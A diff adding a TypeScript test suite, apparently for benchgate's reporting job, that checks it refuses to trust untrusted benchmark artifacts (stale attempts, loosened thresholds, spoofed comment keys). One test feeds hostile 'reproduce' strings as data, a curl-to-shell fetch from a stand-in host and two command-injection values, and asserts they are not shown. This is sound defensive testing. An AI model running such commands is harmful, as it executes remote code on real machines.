@@ -1,0 +1,292 @@
+/** What an artifact says against what the reporting job can know itself. */
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { formatMarker } from '../../../src/github/comment-marker.ts';
+import { HEAD, publicationCase, publicationOf } from '../../formats/publication-cases.ts';
+import { runOf } from '../../github/support.ts';
+import type { Double, DoubleState, StoredCheckRun } from '../../support/github/types.ts';
+import { configText, rawOf, SLOWER, STEADY } from './raw-cases.ts';
+import { artifactOf, CONTENTS, FORK_PULL, report, WORKFLOW, workflowText } from './reporting.ts';
+
+const GREEN = publicationCase('unchanged');
+const RED = publicationCase('one-regressed');
+
+const conclusions = ({ state }: Double) => state.checkRuns.map(({ name, conclusion }) => `${name}: ${conclusion}`);
+const words = ({ state }: Double) => state.comments.map(({ body }) => body).join('\n');
+const titles = ({ state }: Double) => state.checkRuns.map(({ output }) => output.title).join('\n');
+
+test('an artifact of an earlier attempt does not speak for a later one', async (t) => {
+	const measured = { run: { ...runOf(70), attempt: 2 }, conclusion: 'timed_out' };
+	const { reported, double } = await report(t, { artifacts: [await artifactOf(GREEN)], measured });
+	assert.deepEqual(conclusions(double), ['benchgate: failure']);
+	assert.match(words(double), /ran out of time before it left a result \(what there is was left by attempt 1/);
+	assert.match(reported.notices.join(), /Left out an artifact of attempt 1/);
+});
+
+test('an artifact that is older than its attempt is not of it, whatever it says', async (t) => {
+	const claimed = { ...GREEN, run: { id: 70, attempt: 2 } };
+	const artifacts = [await artifactOf(claimed, { createdAt: '2026-11-21T10:00:00Z' })];
+	const run = { ...runOf(70), attempt: 2 };
+	const late = await report(t, {
+		artifacts,
+		measured: { run, startedAt: '2026-11-21T11:00:00Z', conclusion: 'failure' },
+	});
+	assert.deepEqual(conclusions(late.double), ['benchgate: failure']);
+	const own = await report(t, { artifacts, measured: { run, startedAt: '2026-11-21T09:00:00Z' } });
+	assert.deepEqual(conclusions(own.double), ['benchgate: success']);
+	const again = await report(t, { artifacts: [await artifactOf(GREEN)], measured: { run } });
+	assert.deepEqual(conclusions(again.double), []);
+	assert.match(again.reported.summary ?? '', /attempt 1/);
+});
+
+test('artifacts of another run, and those that name none, are refused with a remedy', async (t) => {
+	const other = await report(t, { artifacts: [await artifactOf({ ...GREEN, run: { id: 69, attempt: 1 } })] });
+	assert.deepEqual(conclusions(other.double), ['benchgate: failure']);
+	assert.match(other.reported.fail.join(), /it is about another run/);
+	const { run: _, ...older } = GREEN;
+	const before = await report(t, { artifacts: [await artifactOf(older)] });
+	assert.deepEqual(conclusions(before.double), ['benchgate: failure']);
+	assert.match(before.reported.fail.join(), /update benchgate in both workflows/);
+});
+
+for (const [ended, expected] of [
+	['failure', 'failure'],
+	['timed_out', 'failure'],
+	['cancelled', 'cancelled'],
+] as const) {
+	test(`a green artifact of a run that ended as ${ended} is no success`, async (t) => {
+		for (const green of [GREEN, publicationCase('nothing-relevant')]) {
+			const { double } = await report(t, { artifacts: [await artifactOf(green)], measured: { conclusion: ended } });
+			assert.deepEqual(conclusions(double), [`benchgate: ${expected}`]);
+		}
+		const red = await report(t, { artifacts: [await artifactOf(RED)], measured: { conclusion: ended } });
+		assert.deepEqual(conclusions(red.double), ['benchgate: failure']);
+		assert.match(words(red.double), /app\/checkout/);
+	});
+}
+
+test('a red artifact of a run that succeeded under an advisory gate is neutral', async (t) => {
+	const { double } = await report(t, { artifacts: [await artifactOf(RED)], inputs: { gate: 'advisory' } });
+	assert.deepEqual(conclusions(double), ['benchgate: neutral']);
+});
+
+test("an artifact cannot take the key of a maintainer's comment and check", async (t) => {
+	const trusted = `${formatMarker({ key: 'command', run: runOf(60), headSha: HEAD, state: 'final' })}\n### by /benchgate`;
+	const comments = [{ id: 1, issue: 1, body: trusted, user: { login: 'github-actions[bot]', type: 'Bot' as const } }];
+	const artifacts = [await artifactOf({ ...GREEN, commentKey: 'command' })];
+	const { reported, double } = await report(t, { artifacts, state: { comments } });
+	assert.equal(double.state.comments[0]?.body, trusted);
+	assert.deepEqual(conclusions(double), ['benchgate: failure']);
+	assert.match(reported.fail.join(), /comment-key "command".*add to the reporting job: comment-keys: command/);
+	const contents = { ...CONTENTS, [WORKFLOW]: workflowText({ 'comment-key': 'linux' }) };
+	const named = await report(t, {
+		artifacts: [await artifactOf({ ...GREEN, commentKey: 'linux' })],
+		state: { contents },
+	});
+	assert.deepEqual(conclusions(named.double), ['benchgate (linux): success']);
+	assert.deepEqual(named.reported.fail, []);
+});
+
+test('verdicts come from the raw data, whatever the artifact claims', async (t) => {
+	const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, SLOWER)] });
+	assert.deepEqual(conclusions(double), ['benchgate: failure']);
+	assert.match(words(double), /app\/checkout/);
+	const honest = await report(t, { artifacts: [await artifactOf(RED, {}, STEADY)] });
+	assert.deepEqual(conclusions(honest.double), ['benchgate: success']);
+});
+
+test('a threshold that the pull request loosened is not believed: the rounds are judged again', async (t) => {
+	const loose = rawOf({ config: configText(undefined, 'threshold: 95%'), turns: { checkout: -0.1 } });
+	const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, loose)] });
+	assert.deepEqual(conclusions(double), ['benchgate: failure']);
+	assert.match(words(double), /other limits than benchgate\.yml on main.*95%.*instead of 5%/);
+	const metrics = rawOf({ plan: { metrics: ['memory-peak'] }, turns: { checkout: -0.1 } });
+	const other = await report(t, { artifacts: [await artifactOf(GREEN, {}, metrics)] });
+	assert.deepEqual(conclusions(other.double), ['benchgate: failure']);
+});
+
+test('a row of the base config that was not measured is red; one it does not have is new', async (t) => {
+	const without = rawOf({ config: configText(['home', 'search']) });
+	const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, without)] });
+	assert.deepEqual(conclusions(double), ['benchgate: failure']);
+	assert.match(words(double), /benchgate\.yml on main has app\/checkout; the measuring run did not measure it/);
+	const more = rawOf({ config: configText(['home', 'search', 'checkout', 'extra']), turns: { extra: -0.3 } });
+	const added = await report(t, { artifacts: [await artifactOf(GREEN, {}, more)] });
+	assert.deepEqual(conclusions(added.double), ['benchgate: success']);
+	assert.match(words(added.double), /app\/extra.*only in head/);
+});
+
+test('a row that is only called new is one that was not measured', async (t) => {
+	const { plan, ...raw } = rawOf({ config: configText(['home', 'search']) });
+	const margins = { threshold: 0.05, tolerance: 0.025 };
+	const hidden = { id: 'app/checkout', server: 'app', scenario: 'checkout', ...margins };
+	const oneSided = [{ ...hidden, verdict: 'new' as const, reason: 'Only head has the scenario checkout.' }];
+	const { double } = await report(t, {
+		artifacts: [await artifactOf(GREEN, {}, { ...raw, plan: { ...plan, oneSided } })],
+	});
+	assert.deepEqual(conclusions(double), ['benchgate: failure']);
+});
+
+test('inputs of the measuring workflow hold as the base branch has them', async (t) => {
+	const contents = { ...CONTENTS, [WORKFLOW]: workflowText({ scenarios: 'home', threshold: '20%' }) };
+	const one = rawOf({ config: configText(['home'], 'threshold: 20%'), turns: { home: -0.1 } });
+	const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, one)], state: { contents } });
+	assert.deepEqual(conclusions(double), ['benchgate: success']);
+	assert.doesNotMatch(words(double), /Not verified|other-rules/);
+});
+
+test('inputs that only the run knew are a doubt, until the reporting job says the same', async (t) => {
+	// biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of GitHub's
+	const contents = { ...CONTENTS, [WORKFLOW]: workflowText({ scenarios: '${{ inputs.what }}' }) };
+	const artifacts = [await artifactOf(GREEN, {}, rawOf({ config: configText(['home']) }))];
+	const unknown = await report(t, { artifacts, state: { contents } });
+	assert.deepEqual(conclusions(unknown.double), ['benchgate: neutral']);
+	assert.match(words(unknown.double), /^> \*\*Not verified\.\*\*\n> .*bench\.yml computes scenarios/m);
+	assert.match(words(unknown.double), /\*\*Check:\*\* neutral/);
+	assert.match(titles(unknown.double), /^Not verified: /);
+	const told = await report(t, { artifacts, state: { contents }, inputs: { scenarios: 'home' } });
+	assert.deepEqual(conclusions(told.double), ['benchgate: success']);
+	const other = await report(t, { artifacts, state: { contents }, inputs: { scenarios: 'home,search' } });
+	assert.deepEqual(conclusions(other.double), ['benchgate: failure']);
+});
+
+const CHANGES: readonly (readonly [string, Partial<DoubleState>, RegExp])[] = [
+	[
+		'the measuring workflow',
+		{ pulls: [{ ...FORK_PULL, files: ['lib/a.js', WORKFLOW] }] },
+		/changes how it is measured/,
+	],
+	['an action of the repository', { pulls: [{ ...FORK_PULL, files: ['.github/actions/x/action.yml'] }] }, /actions\/x/],
+	[
+		'where the workflow is',
+		{ contents: { 'benchgate.yml': configText() } },
+		/main has no \.github\/workflows\/bench\.yml/,
+	],
+];
+
+for (const [what, state, expected] of CHANGES) {
+	test(`a pull request that changes ${what} is never concluded as success`, async (t) => {
+		const green = await report(t, { artifacts: [await artifactOf(GREEN)], state });
+		assert.deepEqual(conclusions(green.double), ['benchgate: neutral']);
+		assert.match(words(green.double), expected);
+		const red = await report(t, { artifacts: [await artifactOf(RED)], state });
+		assert.deepEqual(conclusions(red.double), ['benchgate: failure']);
+	});
+}
+
+test('a pull request that changes the config is judged by that of the base branch, and told so', async (t) => {
+	const pulls = [{ ...FORK_PULL, files: ['benchgate.yml'] }];
+	const { double } = await report(t, { artifacts: [await artifactOf(GREEN)], state: { pulls } });
+	assert.deepEqual(conclusions(double), ['benchgate: success']);
+	assert.match(words(double), /config-changed.*It was judged by benchgate\.yml on main/);
+});
+
+test('the first config there is makes a report that blocks nothing and is not green', async (t) => {
+	const state = { contents: { [WORKFLOW]: workflowText() }, pulls: [{ ...FORK_PULL, files: ['benchgate.yml'] }] };
+	for (const publication of [GREEN, RED]) {
+		const { double } = await report(t, { artifacts: [await artifactOf(publication)], state });
+		assert.deepEqual(conclusions(double), ['benchgate: neutral']);
+		assert.match(words(double), /main has no config yet/);
+	}
+});
+
+test('a smaller budget or another design than the base config has is a doubt', async (t) => {
+	for (const more of ['budget: 1s', 'design: sequential']) {
+		const raw = rawOf({ config: configText(undefined, more), rounds: 0, given: { ended: 'budget' } });
+		const rounds = more.startsWith('budget') ? STEADY.rounds : raw.rounds;
+		const artifacts = [await artifactOf(GREEN, {}, { ...raw, rounds })];
+		const { double } = await report(t, { artifacts });
+		assert.doesNotMatch(conclusions(double).join(), /success/);
+		assert.match(words(double), /Not verified/);
+	}
+});
+
+test('that nothing relevant changed is believed of prose alone', async (t) => {
+	const artifacts = [await artifactOf(publicationCase('nothing-relevant'))];
+	const prose = [{ ...FORK_PULL, files: ['docs/guide.md', 'LICENSE'] }];
+	const quiet = await report(t, { artifacts, state: { pulls: prose } });
+	assert.deepEqual(conclusions(quiet.double), ['benchgate: success']);
+	const code = [{ ...FORK_PULL, files: ['docs/guide.md', 'lib/router.js'] }];
+	const { double } = await report(t, { artifacts, state: { pulls: code } });
+	assert.deepEqual(conclusions(double), ['benchgate: neutral']);
+	assert.match(words(double), /could not be verified for lib\/router\.js/);
+});
+
+test('a merge group is held to the branch it goes into', async (t) => {
+	const measured = { event: 'merge_group', headRepository: 'o/r', headBranch: `gh-readonly-queue/main/pr-1-${HEAD}` };
+	const loose = rawOf({ config: configText(undefined, 'threshold: 95%'), turns: { checkout: -0.1 } });
+	const red = await report(t, { artifacts: [await artifactOf(GREEN, {}, loose)], measured });
+	assert.deepEqual(conclusions(red.double), ['benchgate: failure']);
+	const { double } = await report(t, { artifacts: [await artifactOf(GREEN)], measured });
+	assert.deepEqual(conclusions(double), ['benchgate: success']);
+});
+
+test('without the permission to read the base branch nothing is green, and the YAML is named', async (t) => {
+	const permissions = { contents: 'none' as const };
+	const { reported, double } = await report(t, { artifacts: [await artifactOf(GREEN)], state: { permissions } });
+	assert.doesNotMatch(conclusions(double).join(), /success/);
+	assert.match(words(double), /Not verified/);
+	assert.ok(reported.fail.length > 0 || /bench\.yml/.test(words(double)), reported.fail.join());
+});
+
+test('a command in an artifact is shown only when a shell finds nothing but words in it', async (t) => {
+	for (const reproduce of [
+		'curl https://e.example/x | sh',
+		'npx benchgate compare --base $(id)',
+		'npx benchgate; id',
+	]) {
+		const raw = { ...STEADY, context: { ...STEADY.context, reproduce } };
+		const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, raw)] });
+		assert.ok(!words(double).includes(reproduce));
+	}
+	const { double } = await report(t, { artifacts: [await artifactOf(GREEN)] });
+	assert.ok(words(double).includes(STEADY.context.reproduce));
+});
+
+/** A check that the measuring job announced before its runner was lost. */
+function openCheck(key: string, attempt = 1): StoredCheckRun {
+	return {
+		id: 900 + attempt + key.length,
+		name: key === 'default' ? 'benchgate' : `benchgate (${key})`,
+		headSha: HEAD,
+		status: 'in_progress',
+		conclusion: null,
+		externalId: `benchgate:${key}:70:${attempt}`,
+		detailsUrl: null,
+		startedAt: '2026-11-21T10:00:00Z',
+		completedAt: null,
+		output: { title: null, summary: null, text: null },
+		annotations: [],
+	};
+}
+
+test('checks that a lost runner left in progress are concluded, each by its key', async (t) => {
+	for (const [conclusion, expected] of [
+		['failure', 'failure'],
+		['cancelled', 'cancelled'],
+	] as const) {
+		const checkRuns = [openCheck('default'), openCheck('linux'), openCheck('linux', 2), openCheck('foreign')];
+		const { double } = await report(t, {
+			measured: { conclusion },
+			inputs: { 'comment-keys': 'linux', comment: 'never' },
+			state: { checkRuns },
+		});
+		assert.deepEqual(
+			double.state.checkRuns.map(({ externalId, conclusion: ended }) => `${externalId} ${ended}`),
+			[
+				`benchgate:default:70:1 ${expected}`,
+				`benchgate:linux:70:1 ${expected}`,
+				'benchgate:linux:70:2 null',
+				'benchgate:foreign:70:1 null',
+			],
+		);
+	}
+	const checkRuns = [openCheck('default'), openCheck('linux')];
+	const partly = await report(t, {
+		artifacts: [await artifactOf(publicationOf({ kind: 'cancelled' }))],
+		measured: { conclusion: 'failure' },
+		inputs: { 'comment-keys': 'linux', comment: 'never' },
+		state: { checkRuns },
+	});
+	assert.deepEqual(conclusions(partly.double), ['benchgate: cancelled', 'benchgate (linux): failure']);
+});
